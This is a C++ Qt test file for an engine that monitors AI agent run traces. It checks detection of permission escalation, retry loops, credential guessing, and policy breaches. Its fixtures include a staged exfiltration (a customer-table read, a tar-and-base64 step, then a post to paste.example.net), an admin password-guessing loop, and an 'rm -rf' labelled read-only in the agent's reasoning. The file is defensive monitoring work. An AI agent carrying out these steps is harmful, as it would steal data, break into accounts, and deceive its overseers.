// The run-trace analysis engine, detector by detector, on small hand-made
// runs and on the samples: what each reports, at which step and severity,
// with which context, and what the policy checks end as.
#include "model/replaymodel.h"
#include "replay/analysis/analyzer.h"
#include "replay/analysis/batchfiles.h"
#include "replay/analysis/configloader.h"
#include "replay/analysis/fleet.h"
#include "replay/analysis/destinations.h"
#include "model/timestamp.h"
#include "tests/testutil.h"

#include <QtTest>

using namespace rw;
using namespace rw::analysis;

namespace {

const char* const kProfile = R"(version: 1
agents:
  - match: "prod-triage-*"
    baseline_grant: [metrics:read, ssh:exec:read-only]
    approvable: [service:restart, ssh:exec:write]
    approved_tools: [metrics.query, ssh.exec, service.restart, alerting.resolve, logs.read]
    behavioural_policy: SOP-114
  - match: "etl-*"
    baseline_grant: ["warehouse:*", "http:post"]
networks:
  trusted: ["10.0.0.0/8", "*.corp.example.com", "example.com", "s3://acme-datalake/*"]
)";

const char* const kSop114 = R"(id: SOP-114
name: triage-standard
applies_to: 'agent:prod-triage-*'
checks:
  - id: prohibited
    title: No prohibited actions detected
    prohibit:
      - text: never delete resources in production
        when: 'action_type:destroy AND env:production'
        severity: critical
  - id: approved-tools
    title: All tool calls within approved tool list
    require: 'tool in $agent.approved_tools'
    severity: warn
  - id: escalation-approval
    title: Escalated permissions require manual approval audit
    review: 'escalated:true AND NOT approval.id:*'
    severity: warn
    advice: review escalation approvals
)";

const char* const kOrdering = R"yaml(id: SOP-200
name: change-discipline
applies_to: 'agent:*'
checks:
  - id: verify-before-act
    title: Look before acting on a host
    when: 'action_type:modify'
    preceded_by: 'action_type:observe AND param.host:=$step.param.host'
    within_steps: 2
    severity: warn
  - id: verify-after-act
    title: Check metrics after a restart
    when: 'tool:service.restart'
    followed_by: 'tool:metrics.query'
    within_steps: 2
    severity: info
  - id: reasoning-contradicts-action
    title: Reasoning matches the action
    when: 'reasoning~"(?i)read[- ]only|just (check|inspect)"'
    require: 'NOT perm:*:write AND NOT action_type:destroy'
    severity: critical
)yaml";

struct Step
{
    Step(std::string t, std::string p = "{}", std::vector<std::string> used = {})
        : tool(std::move(t)), params(std::move(p)), perms(std::move(used))
    {
    }
    std::string tool;
    std::string params;
    std::vector<std::string> perms;
    std::string status = "success";
    std::string action = "assess_alert";
    std::string reasoning = "Checking.";
    std::string extra; // more members of the step, `"k": v, `
    std::string data = R"({"ok": true})";
};

std::string runDoc(const std::string& agent, const std::vector<Step>& steps, const std::string& summary)
{
    std::string out = R"({"run_id": "run-t", "agent_id": ")" + agent +
                      R"(", "started_at": "2026-03-05T14:00:00Z", "completed_at": "2026-03-05T14:10:00Z", "status": "completed", "policy_version": "v1", "steps": [)";
    for (std::size_t i = 0; i < steps.size(); ++i) {
        const Step& s = steps[i];
        std::string perms;
        for (const std::string& p : s.perms)
            perms += (perms.empty() ? "\"" : ", \"") + p + "\"";
        const std::string seconds = std::to_string(100 + i % 60).substr(1);
        const std::string time = "2026-03-05T14:0" + std::to_string(i / 60 % 10) + ":" + seconds + "Z";
        out += (i ? ", " : "") + std::string("{\"step_index\": ") + std::to_string(i) + ", \"action\": \"" + s.action +
               "\", \"reasoning\": \"" + s.reasoning + "\", " + s.extra + "\"tool_call\": {\"tool\": \"" + s.tool +
               "\", \"parameters\": " + s.params + "}, \"result\": {\"status\": \"" + s.status + "\", \"data\": " +
               s.data + "}, \"permissions_used\": [" + perms + "], \"timestamp\": \"" + time +
               "\", \"duration_ms\": 100}";
    }
    return out + "], \"permissions_summary\": " + summary + "}\n";
}

const char* const kNoSummary = "null";

struct Setup
{
    std::string profile = kProfile;
    std::vector<std::string> policies{kSop114};
    std::string exfil;
    std::string policyVersion;
    std::map<std::string, std::string> sequenceProfiles;
};

std::vector<RunAnalysis> analyze(const std::string& input, const Setup& setup = {})
{
    std::vector<BundleDiagnostic> d;
    AnalysisConfig config;
    if (!setup.profile.empty()) {
        auto p = parseAnalysisProfile(setup.profile, "analysis.yaml", d);
        if (!p)
            qFatal("profile: %s", d.empty() ? "?" : d.front().message.c_str());
        config.profile = *p;
        config.profileGiven = true;
    } else {
        config.profile = defaultAnalysisProfile();
    }
    for (const std::string& text : setup.policies)
        config.policies.push_back(*parseBehaviourPolicy(text, "policy.yaml", d));
    config.exfil = setup.exfil.empty() ? defaultExfilRules() : *parseExfilRules(setup.exfil, "exfil.yaml", d);
    for (const auto& [path, json] : setup.sequenceProfiles)
        config.sequenceProfiles[path] = *parseSequenceProfile(json, path, d);
    config.policyVersion = setup.policyVersion;
    for (const BundleDiagnostic& x : d)
        if (x.level == BundleDiagnostic::Level::Error)
            qFatal("config: %s:%d: %s", x.file.c_str(), x.line, x.message.c_str());
    const auto rules = AnalysisRules::compile(std::move(config), d);
    if (!rules)
        qFatal("rules: %s", d.empty() ? "?" : d.back().message.c_str());
    const auto model = rwtest::load(input);
    return analyzeModel(*model, *rules, "feed");
}

// "warn 2 escalation.not-in-baseline ssh:exec:write" per anomaly
QStringList brief(const RunAnalysis& run)
{
    QStringList out;
    for (const Anomaly& a : run.anomalies)
        out << QStringLiteral("%1 %2 %3 %4")
                   .arg(QLatin1String(severityName(a.severity)))
                   .arg(a.stepIndex)
                   .arg(QString::fromStdString(a.ruleId), QString::fromStdString(a.key));
    return out;
}

QStringList checks(const RunAnalysis& run)
{
    QStringList out;
    for (const PolicyCheckResult& c : run.checks)
        out << QString::fromStdString(c.policy + '/' + c.check + ' ' + checkResultName(c.result));
    return out;
}

} // namespace

class TestAnalysis : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void seedRun();
    void seedRunWithoutProfile();
    void detectors_data();
    void detectors();
    void orderRules();
    void sequenceProfile();
    void destinations_data();
    void destinations();
    void batchFiles();
    void fleet();
    void everySample();
    void fingerprintsAreStable();
};

void TestAnalysis::seedRun()
{
    const auto runs = analyze(rwtest::readFile(QStringLiteral(RW_SOURCE_DIR "/sample-audits/run-12345.json")));
    QCOMPARE(runs.size(), std::size_t(1));
    const RunAnalysis& r = runs.front();
    QCOMPARE(QString::fromStdString(r.runId), QStringLiteral("run-12345"));
    QCOMPARE(r.durationMs, 36670);
    QCOMPARE(r.steps, 12);
    QCOMPARE(r.baselineSource, BaselineSource::Profile);
    QCOMPARE(r.baseline, (std::vector<std::string>{"metrics:read", "ssh:exec:read-only"}));
    QCOMPARE(r.used, (std::vector<std::string>{"metrics:read", "ssh:exec:read-only", "service:restart", "ssh:exec:write"}));
    QCOMPARE(r.escalated, (std::vector<std::string>{"service:restart", "ssh:exec:write"}));
    QCOMPARE(brief(r), (QStringList{QStringLiteral("warn 2 escalation.not-in-baseline ssh:exec:write"),
                                    QStringLiteral("warn 2 escalation.not-in-baseline service:restart"),
                                    QStringLiteral("info 7 retry.repeated metrics.query")}));
    QCOMPARE(checks(r), (QStringList{QStringLiteral("SOP-114/prohibited pass"), QStringLiteral("SOP-114/approved-tools pass"),
                                     QStringLiteral("SOP-114/escalation-approval warn")}));
    QCOMPARE(r.checks[2].steps, (std::vector<std::int64_t>{2}));
    QCOMPARE(QString::fromStdString(r.advice), QStringLiteral("review escalation approvals"));
    QCOMPARE(QString::fromStdString(r.policyId + " " + r.policyName), QStringLiteral("SOP-114 triage-standard"));
    const Anomaly& retry = r.anomalies[2];
    QCOMPARE(retry.context["attempts"].get<int>(), 2);
    QCOMPARE(QString::fromStdString(retry.context["mode"].get<std::string>()), QStringLiteral("identical"));
    QCOMPARE(retry.witness.size(), std::size_t(2));
    const Anomaly& esc = r.anomalies[0];
    QCOMPARE(QString::fromStdString(esc.witness.front().pointer), QStringLiteral("/permissions_used/0"));
    QVERIFY(esc.witness.front().line > 0 && esc.witness.front().length > 0);
    QCOMPARE(r.worst(), analysis::Severity::Warn);
    QVERIFY(!r.clean());
}

void TestAnalysis::seedRunWithoutProfile()
{
    Setup none;
    none.profile.clear();
    none.policies.clear();
    const auto runs = analyze(rwtest::readFile(QStringLiteral(RW_SOURCE_DIR "/sample-audits/run-12345.json")), none);
    const RunAnalysis& r = runs.front();
    // granted - escalated: the trace's own record of what was not escalated
    QCOMPARE(r.baselineSource, BaselineSource::Inferred);
    QCOMPARE(r.baseline, (std::vector<std::string>{"metrics:read", "ssh:exec:read-only"}));
    QCOMPARE(brief(r).size(), 3);
    QVERIFY(r.checks.empty());
}

void TestAnalysis::detectors_data()
{
    QTest::addColumn<QString>("input");
    QTest::addColumn<QStringList>("expected");
    const QString grant = QStringLiteral(R"({"granted": ["metrics:read"], "denied": [], "escalated": []})");
    const auto doc = [](const std::string& agent, const std::vector<Step>& steps, const QString& summary) {
        return QString::fromStdString(runDoc(agent, steps, summary.toStdString()));
    };
    const Step query{"metrics.query", R"({"host": "web-03"})", {"metrics:read"}};
    Step failing = query;
    failing.status = "error";

    Step approved{"service.restart", R"({"host": "web-03"})", {"service:restart"}};
    approved.action = "restart_service";
    approved.extra = R"("approval": {"id": "apr-1", "approver": "oncall"}, )";
    QTest::newRow("approved escalation is info")
        << doc("prod-triage-1", {query, approved}, QStringLiteral(R"({"granted": ["metrics:read", "service:restart"], "denied": [], "escalated": ["service:restart"]})"))
        << QStringList{QStringLiteral("info 1 escalation.approved service:restart")};
    Step denied{"ssh.exec", R"({"host": "web-03"})", {"ssh:exec:write"}};
    QTest::newRow("denied permission used")
        << doc("prod-triage-1", {denied}, QStringLiteral(R"({"granted": ["ssh:exec:write"], "denied": ["ssh:exec:write"], "escalated": ["ssh:exec:write"]})"))
        << QStringList{QStringLiteral("critical 0 escalation.denied-used ssh:exec:write"),
                       QStringLiteral("critical 0 integrity.denied-succeeded ssh:exec:write")};
    QTest::newRow("not granted, not recorded")
        << doc("prod-triage-1", {query, Step{"logs.read", "{}", {"logs:read"}}}, grant)
        << QStringList{QStringLiteral("warn 1 escalation.not-in-baseline logs:read"),
                       QStringLiteral("warn 1 integrity.not-granted logs:read")};
    QTest::newRow("failure loop: 4 identical attempts")
        << doc("prod-triage-1", {failing, failing, failing, failing, failing}, grant)
        << QStringList{QStringLiteral("warn 3 retry.failure-loop metrics.query")};
    QTest::newRow("three attempts stay info")
        << doc("prod-triage-1", {failing, failing, query}, grant)
        << QStringList{QStringLiteral("info 2 retry.repeated metrics.query")};
    Step login{"auth.login", R"({"user": "admin", "password": "a"})", {}};
    login.status = "denied";
    std::vector<Step> guesses;
    for (const char* pw : {"a", "b", "c", "d"}) {
        Step s = login;
        s.params = std::string(R"({"user": "admin", "password": ")") + pw + "\"}";
        guesses.push_back(s);
    }
    QTest::newRow("credential probing")
        << doc("lab-1", guesses, QStringLiteral("null"))
        << QStringList{QStringLiteral("critical 3 retry.credential-probing auth.login")};
    Step other = query;
    other.params = R"({"host": "web-04"})";
    QTest::newRow("new parameters after success: no retry")
        << doc("prod-triage-1", {query, other, query}, grant) << QStringList{};
    Step bigRead{"warehouse.read", R"({"table": "customers"})", {"warehouse:read"}};
    bigRead.data = R"({"rows": 250000})";
    Step encode{"ssh.exec", R"({"command": "tar czf - /tmp/x | base64"})", {}};
    Step post{"http.post", R"({"url": "https://paste.example.net/api", "body": "..."})", {"http:post"}};
    Step internal = post;
    internal.params = R"({"url": "https://files.corp.example.com/up"})";
    QTest::newRow("stage then send")
        << doc("etl-nightly", {bigRead, encode, post}, QStringLiteral("null"))
        << QStringList{QStringLiteral("critical 2 exfil.stage-then-send stage-then-send|paste.example.net")};
    // close together it is staging (encoding is optional); further apart a plain read-then-send
    QTest::newRow("read then send at once")
        << doc("etl-nightly", {bigRead, post}, QStringLiteral("null"))
        << QStringList{QStringLiteral("critical 1 exfil.stage-then-send stage-then-send|paste.example.net")};
    std::vector<Step> apart{bigRead};
    for (int i = 0; i < 10; ++i)
        apart.push_back(Step{"warehouse.read", "{\"n\": " + std::to_string(i) + "}", {"warehouse:read"}});
    apart.push_back(post);
    QTest::newRow("read then send later")
        << doc("etl-nightly", apart, QStringLiteral("null"))
        << QStringList{QStringLiteral("warn 11 exfil.read-then-external read-then-external|paste.example.net")};
    QTest::newRow("trusted destination")
        << doc("etl-nightly", {bigRead, encode, internal}, QStringLiteral("null")) << QStringList{};
    QTest::newRow("small read")
        << doc("etl-nightly", {Step{"warehouse.read", "{}", {"warehouse:read"}}, post}, QStringLiteral("null"))
        << QStringList{};
    Step destroy{"resource.delete", R"({"host": "prod-db-1"})", {"db:delete"}};
    destroy.action = "delete_resource";
    destroy.status = "error";
    QTest::newRow("prohibited even when it failed")
        << doc("prod-triage-1", {destroy}, QStringLiteral(R"({"granted": ["db:delete"], "denied": [], "escalated": ["db:delete"]})"))
        << QStringList{QStringLiteral("warn 0 escalation.not-in-baseline db:delete"),
                       QStringLiteral("critical 0 policy.SOP-114.prohibited prohibited#0"),
                       QStringLiteral("warn 0 policy.SOP-114.approved-tools approved-tools")};
}

void TestAnalysis::detectors()
{
    QFETCH(QString, input);
    QFETCH(QStringList, expected);
    const auto runs = analyze(input.toStdString());
    QCOMPARE(runs.size(), std::size_t(1));
    QCOMPARE(brief(runs.front()), expected);
}

void TestAnalysis::orderRules()
{
    Setup s;
    s.profile.clear();
    s.policies = {kOrdering};
    Step look{"ssh.exec", R"({"host": "web-03", "command": "uptime"})", {"ssh:exec:read-only"}};
    look.action = "identify_process";
    Step restart{"service.restart", R"({"host": "web-03"})", {"service:restart"}};
    restart.action = "restart_service";
    Step restartOther = restart;
    restartOther.params = R"({"host": "web-09"})";
    Step query{"metrics.query", R"({"host": "web-03"})", {"metrics:read"}};
    Step liar{"ssh.exec", R"({"host": "web-03", "command": "rm -rf /tmp/x"})", {"ssh:exec:write"}};
    liar.reasoning = "Just checking the disk, read-only.";
    const std::string input = runDoc("ops-1", {look, restart, query, restartOther, look, look, liar}, "null");
    const auto runs = analyze(input, s);
    QCOMPARE(brief(runs.front()),
             (QStringList{QStringLiteral("warn 3 policy.SOP-200.verify-before-act verify-before-act"),
                          QStringLiteral("info 3 policy.SOP-200.verify-after-act verify-after-act"),
                          QStringLiteral("info 5 retry.repeated ssh.exec"), // steps 4 and 5 are the same call
                          QStringLiteral("critical 6 policy.SOP-200.reasoning-contradicts-action reasoning-contradicts-action")}));
    QCOMPARE(checks(runs.front()),
             (QStringList{QStringLiteral("SOP-200/verify-before-act warn"), QStringLiteral("SOP-200/verify-after-act warn"),
                          QStringLiteral("SOP-200/reasoning-contradicts-action fail")}));
    QCOMPARE(runs.front().anomalies[1].detector, Detector::MissingStep);
    QCOMPARE(runs.front().anomalies[3].detector, Detector::BehaviouralDeviation);
    // a restart at the run's end never got its check
    const auto end = analyze(runDoc("ops-1", {look, restart}, "null"), s);
    QCOMPARE(brief(end.front()), QStringList{QStringLiteral("info 1 policy.SOP-200.verify-after-act verify-after-act")});
}

void TestAnalysis::sequenceProfile()
{
    Setup s;
    s.profile = std::string(kProfile).replace(std::string(kProfile).find("    behavioural_policy"), 0,
                                              "    sequence_profile: profiles/triage.json\n");
    const std::string profile = R"({"schema": "replay-workbench/sequence-profile", "version": 1, "agent": "prod-triage-*",
        "built_from": {"runs": RUNS}, "ngram": 2,
        "tools": {"metrics.query": 900, "ssh.exec": 400, "service.restart": 50},
        "first_tools": {"metrics.query": 400},
        "transitions": {"<start>|metrics.query": 400, "metrics.query|ssh.exec": 380, "metrics.query|service.restart": 2, "ssh.exec|service.restart": 48},
        "permissions": {}})";
    std::string enough = profile;
    enough.replace(enough.find("RUNS"), 4, "400");
    s.sequenceProfiles["profiles/triage.json"] = enough;
    const Step query{"metrics.query", "{}", {"metrics:read"}};
    const Step ssh{"ssh.exec", "{}", {"ssh:exec:read-only"}};
    const Step restart{"service.restart", "{}", {}};
    const Step exportDb{"db.export", "{}", {}};
    const std::string input = runDoc("prod-triage-1", {ssh, query, restart, exportDb}, "null");
    QCOMPARE(brief(analyze(input, s).front()),
             (QStringList{QStringLiteral("info 0 sequence.new-first-tool ssh.exec"),
                          QStringLiteral("info 1 sequence.new-transition ssh.exec|metrics.query"),
                          QStringLiteral("info 2 sequence.rare-transition metrics.query|service.restart"),
                          QStringLiteral("warn 3 sequence.new-tool db.export"),
                          QStringLiteral("warn 3 policy.SOP-114.approved-tools approved-tools")}));
    std::string few = profile;
    few.replace(few.find("RUNS"), 4, "4");
    s.sequenceProfiles["profiles/triage.json"] = few;
    const RunAnalysis r = analyze(input, s).front();
    QCOMPARE(brief(r).size(), 1); // approved-tools only
    QCOMPARE(r.notes.size(), std::size_t(1));
    QCOMPARE(r.notes.front().code, AnalysisNote::Code::InsufficientBaseline);
    QCOMPARE(r.notes.front().runs, 4);
}

void TestAnalysis::destinations_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QStringList>("extracted");
    QTest::addColumn<QList<bool>>("trusted");
    const auto row = [](const char* name, const char* v, QStringList d, QList<bool> t) {
        QTest::newRow(name) << QString::fromUtf8(v) << d << t;
    };
    row("url", "https://User@Paste.Example.NET:8443/api?x=1", {QStringLiteral("paste.example.net")}, {false});
    row("subdomain of a trusted domain", "https://files.example.com/up", {QStringLiteral("files.example.com")}, {true});
    row("look-alike domain", "https://notexample.com/", {QStringLiteral("notexample.com")}, {false});
    row("corp glob", "http://wiki.corp.example.com", {QStringLiteral("wiki.corp.example.com")}, {true});
    row("addresses", "Auditor <audit@outside.org>; ops@corp.example.com",
        {QStringLiteral("outside.org"), QStringLiteral("corp.example.com")}, {false, true});
    row("ip in cidr", "10.20.30.40:22", {QStringLiteral("10.20.30.40")}, {true});
    row("ip outside", "11.0.0.1", {QStringLiteral("11.0.0.1")}, {false});
    row("bucket", "s3://acme-datalake/2026/03/x.csv", {QStringLiteral("s3://acme-datalake/2026/03/x.csv")}, {true});
    row("other bucket", "s3://scratch/x", {QStringLiteral("s3://scratch/x")}, {false});
    row("ipv6 url", "http://[::1]:8080/x", {QStringLiteral("::1")}, {false});
    row("empty", "", {}, {});
}

void TestAnalysis::destinations()
{
    QFETCH(QString, value);
    QFETCH(QStringList, extracted);
    QFETCH(QList<bool>, trusted);
    std::vector<std::string> out;
    extractDestinations(value.toStdString(), out);
    QStringList got;
    for (const std::string& d : out)
        got << QString::fromStdString(d);
    QCOMPARE(got, extracted);
    const TrustedNetworks networks({"10.0.0.0/8", "*.corp.example.com", "example.com", "corp.example.com",
                                    "s3://acme-datalake/*"});
    for (qsizetype i = 0; i < trusted.size(); ++i)
        QCOMPARE(networks.trusts(out[static_cast<std::size_t>(i)]), trusted[i]);
    std::uint32_t ip = 0;
    QVERIFY(!parseIpv4("256.1.1.1", ip));
    QVERIFY(!parseIpv4("1.2.3", ip));
    QVERIFY(parseIpv4("1.2.3.4", ip) && ip == 0x01020304u);
}

void TestAnalysis::batchFiles()
{
    QTemporaryDir dir;
    const QString root = dir.path();
    QVERIFY(QDir(root).mkpath(QStringLiteral("b/c")));
    const auto touch = [&](const QString& name) {
        QFile f(root + QLatin1Char('/') + name);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("{}\n");
    };
    touch(QStringLiteral("z.jsonl"));
    touch(QStringLiteral("a.JSON"));
    touch(QStringLiteral("notes.txt"));
    touch(QStringLiteral("b/c/deep.json.gz"));
    QVERIFY(QFile::link(root + QStringLiteral("/b"), root + QStringLiteral("/b/c/loop")));
    QVERIFY(QFile::link(root + QStringLiteral("/missing"), root + QStringLiteral("/b/dangling.json")));
    QVERIFY(QFile::link(root + QStringLiteral("/z.jsonl"), root + QStringLiteral("/b/same.jsonl")));
    const BatchFiles found = collectBatchFiles({root.toStdString()}, "*.json*");
    QStringList files;
    for (const std::string& f : found.files)
        files << QString::fromStdString(f).mid(root.size() + 1);
    // sorted per folder, case-insensitive glob, recursive; z.jsonl once although b/same.jsonl links to it
    QCOMPARE(files, (QStringList{QStringLiteral("a.JSON"), QStringLiteral("b/c/deep.json.gz"), QStringLiteral("b/same.jsonl")}));
    QCOMPARE(found.problems.size(), std::size_t(2));
    QCOMPARE(found.problems[0].code, BatchProblem::Code::SymlinkLoop);
    QVERIFY(found.problems[0].path.ends_with("/b/c/loop"));
    QCOMPARE(found.problems[1].code, BatchProblem::Code::Dangling);
    // a file given as a root is taken whatever its name; a missing root is a problem
    const QString notes = root + QStringLiteral("/notes.txt");
    const BatchFiles direct = collectBatchFiles({notes.toStdString(), std::string("/no/such/dir")}, "*.json");
    QCOMPARE(direct.files.size(), std::size_t(1));
    QCOMPARE(direct.problems.size(), std::size_t(1));
    QCOMPARE(direct.problems[0].code, BatchProblem::Code::Unreadable);
}

void TestAnalysis::fleet()
{
    const auto run = [](const char* agent, const char* started, std::vector<std::string> used,
                        std::vector<std::string> escalated, std::vector<std::string> baseline) {
        RunAnalysis r;
        r.agentId = agent;
        r.startedAt = started;
        r.used = std::move(used);
        r.uses.assign(r.used.size(), 2);
        r.escalated = std::move(escalated);
        r.baseline = std::move(baseline);
        r.granted = r.baseline;
        return r;
    };
    std::vector<RunAnalysis> runs;
    for (int i = 0; i < 4; ++i) // service:restart escalated in 3 of 4 runs; metrics:admin never used
        runs.push_back(run("triage", "2026-03-02T10:00:00Z", i < 3 ? std::vector<std::string>{"metrics:read", "service:restart"}
                                                                   : std::vector<std::string>{"metrics:read"},
                           i < 3 ? std::vector<std::string>{"service:restart"} : std::vector<std::string>{},
                           {"metrics:read", "metrics:admin", "logs:*"}));
    runs.push_back(run("triage", "2026-04-01T00:00:00Z", {"db:drop"}, {"db:drop"}, {})); // outside the window
    FleetOptions o;
    o.fromUs = *parseTimestamp("2026-03-01T00:00:00Z");
    o.toUs = *parseTimestamp("2026-03-08T00:00:00Z");
    o.minEscalatedRuns = 3;
    o.minEscalatedShare = 0.5;
    const FleetSummary s = summarizeFleet(runs, o);
    QCOMPARE(s.runs, 4);
    QCOMPARE(s.skipped, 1);
    QCOMPARE(s.cells.size(), std::size_t(2));
    QCOMPARE(s.cells[1].permission, std::string("service:restart"));
    QCOMPARE(s.cells[1].uses, 6);
    QCOMPARE(s.cells[1].runs, 3);
    QCOMPARE(s.cells[1].escalatedRuns, 3);
    QCOMPARE(s.overProvisioned.size(), std::size_t(1)); // metrics:admin; a glob grant is never "unused"
    QCOMPARE(s.overProvisioned[0].permission, std::string("metrics:admin"));
    QCOMPARE(s.overProvisioned[0].grantedRuns, 4);
    QCOMPARE(s.frequentEscalations.size(), std::size_t(1));
    QCOMPARE(s.frequentEscalations[0].share, 0.75);
    o.minEscalatedRuns = 4; // 3 runs are not enough now
    QVERIFY(summarizeFleet(runs, o).frequentEscalations.empty());
}

void TestAnalysis::everySample()
{
    // interceptor logs are read as runs: one step per execution plan
    const auto ops = analyze(rwtest::readFile(QStringLiteral(RW_SOURCE_DIR "/sample-audits/ops-restart-approval.jsonl")));
    QCOMPARE(ops.size(), std::size_t(1));
    QCOMPARE(ops.front().steps, 2);
    QCOMPARE(ops.front().baselineSource, BaselineSource::None);
    QCOMPARE(brief(ops.front()), QStringList{QStringLiteral("info 1 retry.repeated restart_service")});
    const auto mcp = analyze(rwtest::readFile(QStringLiteral(RW_SOURCE_DIR "/sample-audits/mcp-call.jsonl")));
    QCOMPARE(mcp.front().baselineSource, BaselineSource::Granted);
    QVERIFY(mcp.front().escalated.empty());
    for (const QString& name : QDir(QStringLiteral(RW_SOURCE_DIR "/sample-audits"))
                                   .entryList({QStringLiteral("*.jsonl"), QStringLiteral("*.json")}, QDir::Files)) {
        const std::string bytes = rwtest::readFile(QStringLiteral(RW_SOURCE_DIR "/sample-audits/") + name);
        const auto model = rwtest::load(bytes);
        const auto runs = analyze(bytes);
        QVERIFY2(!runs.empty() || model->traceCount() == 0, qPrintable(name));
        for (const RunAnalysis& r : runs)
            QVERIFY2(r.steps > 0 || r.runId.empty(), qPrintable(name));
    }
}

void TestAnalysis::fingerprintsAreStable()
{
    const std::string input = rwtest::readFile(QStringLiteral(RW_SOURCE_DIR "/sample-audits/run-12345.json"));
    const auto a = analyze(input);
    // a different profile file (comments, order) gives the same findings the same fingerprints
    Setup edited;
    edited.profile = std::string("# edited\n") + kProfile;
    const auto b = analyze(input, edited);
    QCOMPARE(a.front().anomalies.size(), b.front().anomalies.size());
    for (std::size_t i = 0; i < a.front().anomalies.size(); ++i) {
        QCOMPARE(a.front().anomalies[i].fingerprint, b.front().anomalies[i].fingerprint);
        QCOMPARE(a.front().anomalies[i].fingerprint.size(), std::size_t(64));
    }
    QVERIFY(a.front().anomalies[0].fingerprint != a.front().anomalies[1].fingerprint);
}

QTEST_GUILESS_MAIN(TestAnalysis)
#include "tst_analysis.moc"
